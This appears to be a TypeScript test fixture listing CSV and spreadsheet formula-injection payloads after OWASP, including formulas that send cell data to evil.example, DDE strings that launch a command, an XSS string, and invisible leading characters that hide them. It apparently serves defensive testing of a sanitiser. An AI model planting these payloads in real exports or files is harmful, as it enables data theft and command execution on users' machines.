// OWASP's list of CSV injections by kind: what begins a formula, behind what a reader does not see or a separator ends a cell.

const STARTS: readonly string[] = [
  ...['=1+1', '+A1', '-A1*2', '@SUM(1)', '＝1+1', '＋A1', '－A1', '＠SUM(1)', '{=1+1}'],
  '=HYPERLINK("http://evil.example?x="&A1,"Pay")',
  '=IMPORTXML("http://evil.example","//a")',
  '=WEBSERVICE("http://evil.example")',
  '=DDE("cmd";"/C calc";"!A0")',
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '<script>alert(1)</script><img src=x onerror=alert(1)>',
];
const LEADS: readonly string[] = [
  // A quotation mark; blanks, also those nobody sees.
  ...["'", '"', ' ', '\u00a0', '\u3000', '\u200b', '\ufeff'],
  ...['\t', '\r', '\n', '\r\n'],
  // The cell ends: for a spreadsheet that separates by another sign, on another line.
  ...['Ann;', 'Ann,', 'Ann\t', 'Ann\n'],
];

/** Every start as it is, and two of them behind every lead. */
export const HOSTILE: readonly string[] = [
  ...STARTS,
  ...LEADS.flatMap((lead) => ['=1+1', "@SUM(1+1)*cmd|' /C calc'!A0"].map((start) => lead + start)),
];
/** As many texts that nobody could take for anything else. */
export const TAME: readonly string[] = HOSTILE.map((_, i) => `Ann ${i}`);
